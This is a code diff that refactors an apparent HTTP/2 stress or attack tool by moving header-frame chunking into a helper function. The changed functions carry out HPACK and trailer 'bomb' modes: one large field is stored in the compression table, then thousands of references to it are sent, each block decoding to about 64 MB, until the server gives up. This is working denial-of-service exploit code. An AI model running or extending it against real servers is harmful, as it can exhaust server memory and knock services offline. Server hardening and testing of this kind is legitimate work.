@@ -157,6 +157,16 @@ def m_zero_window(c, a, t0):
                      last_reset_ms=last, pings=n, ping_acks=c.ping_acks)
 
 
+def header_block(sid, block):
+    """A header block in a HEADERS frame (END_STREAM) and as many CONTINUATIONs as it needs."""
+    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
+    out = b""
+    for k, f in enumerate(chunks):
+        flags = (END_HEADERS if k == len(chunks) - 1 else 0) | (END_STREAM if k == 0 else 0)
+        out += frame(HEADERS if k == 0 else CONTINUATION, flags, sid, f)
+    return out
+
+
 def m_hpack_bomb(c, a, t0):
     """One 4000-byte field stored in the HPACK table, then header blocks of 16,000 references
     to it (64 MB decoded each), one after another for --seconds or until the server ends the
@@ -169,12 +179,7 @@ def m_hpack_bomb(c, a, t0):
     while time.monotonic() - t0 < a.seconds and not c.closed and c.goaway is None:
         block = request_block(path=a.path) + (big if first else b"") + refs
         first = False
-        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
-        out = b""
-        for k, f in enumerate(chunks):
-            flags = (END_HEADERS if k == len(chunks) - 1 else 0) | (END_STREAM if k == 0 else 0)
-            out += frame(HEADERS if k == 0 else CONTINUATION, flags, sid, f)
-        if not c.send(out, timeout=2):
+        if not c.send(header_block(sid, block), timeout=2):
             break
         blocks += 1
         sid += 2
@@ -205,10 +210,7 @@ def m_trailer_bomb(c, a, t0):
     sid, n = 1, 0
     while time.monotonic() - t0 < a.seconds and not c.closed and c.goaway is None:
         out = frame(HEADERS, END_HEADERS, sid, request_block(path=a.path) + (big if n == 0 else b""))
-        chunks = [refs[i:i + 16384] for i in range(0, len(refs), 16384)]
-        for k, f in enumerate(chunks):
-            flags = (END_HEADERS if k == len(chunks) - 1 else 0) | (END_STREAM if k == 0 else 0)
-            out += frame(HEADERS if k == 0 else CONTINUATION, flags, sid, f)
+        out += header_block(sid, refs)  # the trailers
         if not c.send(out, timeout=2):
             break
         n += 1
